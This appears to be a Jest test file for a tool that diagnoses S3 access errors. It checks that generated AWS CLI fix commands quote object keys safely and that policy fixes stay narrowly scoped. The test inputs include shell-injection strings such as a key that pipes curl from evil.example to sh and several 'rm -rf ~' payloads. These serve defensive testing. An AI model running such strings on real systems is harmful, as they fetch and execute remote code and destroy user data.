import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { diagnose, parseEvent, parseSnapshot, readEventDocument } from '../lambda';
import { shellQuote } from '../lambda/fixes/shellQuote';
import { applyRequestChange } from '../lambda/model/applyRequestChange';
import { BUCKET, policy, REQUIRE_OWNER_ACL, s3Record, snapshot } from './factories';
import { OWN_SCENARIOS, SHARED_SCENARIOS } from './helpers/paths';
import { loadScenarios } from './helpers/scenarios';

describe('shellQuote', () => {
  it.each(["it's", '$(rm -rf ~)', '`id`', 'a b', 'x;y', "'", '\n', 'über/ß', ''])('keeps %p one literal word for the shell', (value) => {
    expect(execFileSync('sh', ['-c', `printf %s ${shellQuote(value)}`], { stdio: ['ignore', 'pipe', 'pipe'] }).toString()).toBe(value);
  });
});

describe('fixes', () => {
  /** What the AWS CLI would receive if a person pasted the command: `aws` replaced by a function that prints its argv. */
  function argvOfPasted(command: string, env: Record<string, string> = {}): string[] {
    const script = `aws() { printf '%s\\0' "$@"; }; ${command}`;
    // The shell's own complaints are caught with the error, not printed among the test results.
    return execFileSync('bash', ['-c', script], { env: { PATH: process.env.PATH ?? '', ...env }, stdio: ['ignore', 'pipe', 'pipe'] })
      .toString()
      .split('\0')
      .slice(0, -1);
  }

  const requireAcl = REQUIRE_OWNER_ACL;

  it.each([
    ['a shell injection', "x'; curl evil.example | sh; echo '"],
    ['a leading dash that would read as an option', '--acl=public-read-write'],
    ['a redirection and a variable', '<in >out $HOME `id`'],
    ['a newline', 'daily/\nrm -rf ~'],
  ])('paste safely with %s in the object key: the CLI gets exactly the key, as the value of --key', (_name, key) => {
    const request = parseEvent(s3Record({}, { key })).requests[0]!;
    const fix = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!;
    expect(argvOfPasted(fix.command!, { FILE: 'clip.mp4' })).toEqual([
      's3api',
      'put-object',
      `--bucket=${BUCKET}`,
      `--key=${key}`,
      '--body=clip.mp4',
      '--acl=bucket-owner-full-control',
    ]);
  });

  it('ask for the file to upload through a variable the shell insists on, never a <file> redirection', () => {
    const request = parseEvent(s3Record()).requests[0]!;
    const command = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!.command!;
    expect(command).not.toMatch(/<\w+>/);
    expect(() => argvOfPasted(command)).toThrow(/set FILE to the file to upload/);
  });

  it('name the uploader for a missing encryption header: the retry sends it (#22)', () => {
    const requireSse = policy({
      Sid: 'Sse',
      Effect: 'Deny',
      Principal: '*',
      Action: 's3:PutObject',
      Resource: '*',
      Condition: { Null: { 's3:x-amz-server-side-encryption': 'true' } },
    });
    const request = parseEvent(s3Record()).requests[0]!;
    expect(diagnose(request, snapshot({}, { policy: requireSse })).fixes[0]).toMatchObject({
      owner: 'uploader',
      requestChange: { setHeaders: { 'x-amz-server-side-encryption': 'AES256' } },
    });
  });

  const scenarios = [...loadScenarios(SHARED_SCENARIOS), ...loadScenarios(OWN_SCENARIOS)].filter((s) => !s.expected.exitCode);
  it.each(scenarios.map((s) => [s.name, s] as const))(
    'never grant a wildcard action or more than the denied job: %s',
    (_name, scenario) => {
      const request = parseEvent(readEventDocument(readFileSync(scenario.event))).requests[0]!;
      const account = parseSnapshot(JSON.parse(readFileSync(scenario.snapshot, 'utf8')));
      const diagnosis = diagnose(request, account);
      // A follow-up grant serves the request as the uploader fix changes it (an ACL header needs s3:PutObjectAcl).
      const change = diagnosis.fixes.find((f) => f.requestChange)?.requestChange;
      const changed = change ? diagnose(applyRequestChange(request, change), account).request : diagnosis.request;
      const actions = [...new Set([...diagnosis.request.actions, ...changed.actions])];
      const resources = [...new Set([...diagnosis.request.resources, ...changed.resources])];
      for (const fix of diagnosis.fixes) {
        // A Deny's edit keeps its action and resource: only the principals it spares change.
        if (fix.policyPatch?.replaceStatement) continue;
        for (const statement of fix.policyPatch?.Statement ?? []) {
          expect(statement.Action).not.toContain('*');
          expect(actions).toContain(statement.Action);
          // An object is granted by its folder (the job's next upload lands beside it), nothing wider.
          const jobResources = resources.map((arn) => arn.replace(/^(arn:[\w-]+:s3:::[^/]+\/(?:.*\/)?)[^/]*$/, '$1*'));
          if (statement.Resource !== '*') expect([...resources, ...jobResources]).toContain(statement.Resource);
        }
      }
    },
  );
});
